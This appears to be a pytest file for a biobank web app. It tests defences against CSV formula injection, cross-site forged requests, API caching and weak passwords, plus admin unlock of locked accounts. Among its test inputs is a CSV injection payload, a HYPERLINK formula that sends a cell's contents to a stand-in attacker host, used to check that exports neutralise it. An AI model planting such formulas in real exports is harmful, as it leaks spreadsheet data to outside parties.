"""Security hardening of the web app (issue 16): CSV formula injection, Origin/Referer checks,
``Cache-Control: no-store`` on API answers, password strength (zxcvbn), admin unlock, and the
API documentation served without a CDN."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from web_helpers import CSRF, PASSWORDS, as_user


def _fail_logins(web, username: str, times: int) -> object:
    response = None
    for _ in range(times):
        token = CSRF.search(web.client.get("/login").text).group(1)
        response = web.client.post(
            "/login",
            data={"username": username, "password": "wrong-password-x", "csrf_token": token},
            follow_redirects=False,
        )
    return response


def _login(web, username: str, password: str) -> object:
    token = CSRF.search(web.client.get("/login").text).group(1)
    return web.client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": token, "next": "/"},
        follow_redirects=False,
    )


def test_neutralise_formulas_follows_owasp():
    from sabrkit.db.csv_export import neutralise_formulas

    # OWASP CSV Injection: cells starting with = + - @ TAB CR are prefixed with a single quote
    frame = pd.DataFrame(
        {
            "text": ['=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tx", "plain", None],
            "number": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    out = neutralise_formulas(frame)
    assert out["text"].tolist()[:6] == [
        '\'=HYPERLINK("http://x","y")',
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "plain",
    ]
    assert out["text"].iloc[6] is None
    assert out["number"].tolist() == frame["number"].tolist()  # numbers stay numbers (a negative one too)
    assert frame["text"].iloc[0].startswith("=")  # the input is not modified


def test_shipment_manifest_csv_neutralises_a_formula_destination(app):
    lab = as_user(app, "lab")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    created = lab.post(
        "/lab/shipments", {"destination": evil, "purpose": "future_research"}, follow_redirects=False
    )
    code = created.headers["location"].rsplit("/", 1)[-1]
    with app.state.db.session() as session:
        from sqlalchemy import select

        from sabrkit.biobank.tables import Sample

        accession_id = session.scalars(
            select(Sample.accession_id).where(Sample.status == "stored").order_by(Sample.accession_id)
        ).first()
    assert lab.post(f"/lab/shipments/{code}/add", {"accession_ids": accession_id}).status_code == 200
    manifest = lab.client.get(f"/lab/shipments/{code}/manifest.csv")
    rows = list(csv.DictReader(io.StringIO(manifest.text)))
    assert rows and rows[0]["destination"] == "'" + evil
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


@pytest.mark.parametrize("header", ["origin", "referer"])
def test_cross_site_origin_is_refused_even_with_a_valid_token(app, header):
    from sabrkit.web.tables import WebUser  # noqa: F401  (the table exists)

    lab = as_user(app, "lab")
    source = "https://evil.example" if header == "origin" else "https://evil.example/page.html"
    forged = lab.post(
        "/lab/shipments",
        {"destination": "Lab X", "purpose": "future_research"},
        headers={header: source},
        follow_redirects=False,
    )
    assert forged.status_code == 403 and "Origin/Referer must match the host" in forged.text
    same = lab.post(
        "/lab/shipments",
        {"destination": "Lab X", "purpose": "future_research"},
        headers={header: "http://testserver" + ("/lab/shipments" if header == "referer" else "")},
        follow_redirects=False,
    )
    assert same.status_code == 303
    # the login form is checked too
    token = CSRF.search(lab.client.get("/login").text).group(1)
    login = lab.client.post(
        "/login",
        data={"username": "lab", "password": PASSWORDS["lab"], "csrf_token": token},
        headers={"origin": "null"},
        follow_redirects=False,
    )
    assert login.status_code == 403


def test_api_answers_are_not_cached(app):
    coordinator = as_user(app, "coordinator")
    for path in ("/api/patients", "/api/patients/SABR-RCC-001", "/api/me", "/openapi.json"):
        response = coordinator.client.get(path)
        assert response.status_code == 200, path
        assert response.headers["cache-control"] == "no-store", path
    denied = coordinator.client.get("/api/patients/SABR-RCC-999")
    assert denied.status_code == 404 and denied.headers["cache-control"] == "no-store"


@pytest.mark.parametrize(
    "password, words",
    [
        ("          ", "spaces only"),  # ten spaces: length rule met, nothing visible
        ("password1234", "strength 1 of 4"),  # zxcvbn: a common password plus digits (about 10^4 guesses)
        ("aaaaaaaaaaaa", "strength"),  # repeats
        ("short", "at least 10 characters"),
    ],
)
def test_weak_passwords_are_refused_at_the_field(app, password, words):
    admin = as_user(app, "admin")
    response = admin.post(
        "/admin/users", {"username": "newtech", "password": password, "role": "lab", "reason": "new starter"}
    )
    assert response.status_code == 422 and words in response.text
    assert 'id="error-password"' in response.text  # shown at the password field
    assert 'value="newtech"' in response.text  # the other values are kept
    ok = admin.post(
        "/admin/users",
        {
            "username": "newtech",
            "password": "amber kettle orbit lantern",
            "role": "lab",
            "reason": "new starter",
        },
        follow_redirects=False,
    )
    assert ok.status_code == 303


def test_admin_unlock_lifts_a_login_lock(app, web):
    assert _fail_logins(web, "lab", 5).status_code == 401
    assert _login(web, "lab", PASSWORDS["lab"]).status_code == 429
    admin = as_user(app, "admin")
    unlocked = admin.post(
        "/admin/users/lab/unlock", {"reason": "locked out at the bench"}, follow_redirects=True
    )
    assert "login unlocked (5 failed login(s) forgotten)" in unlocked.text
    assert _login(web, "lab", PASSWORDS["lab"]).status_code == 303


def test_password_reset_also_unlocks(app, web):
    assert _fail_logins(web, "coordinator", 5).status_code == 401
    admin = as_user(app, "admin")
    reset = admin.post(
        "/admin/users/coordinator/password",
        {"password": "violet harbour tundra pickle", "reason": "forgot password"},
        follow_redirects=False,
    )
    assert reset.status_code == 303
    assert _login(web, "coordinator", "violet harbour tundra pickle").status_code == 303


def test_api_docs_are_served_without_a_cdn(app):
    researcher = as_user(app, "researcher")
    for path in ("/docs", "/redoc"):
        page = researcher.client.get(path)
        assert page.status_code == 200
        assert "cdn." not in page.text and "https://" not in page.text.replace("https://github.com", "")
        assert "/static/api-docs/" in page.text
    bundle = researcher.client.get("/static/api-docs/swagger-ui-bundle.js")
    assert bundle.status_code == 200 and len(bundle.content) > 100_000
    assert researcher.client.get("/static/api-docs/redoc.standalone.js").status_code == 200
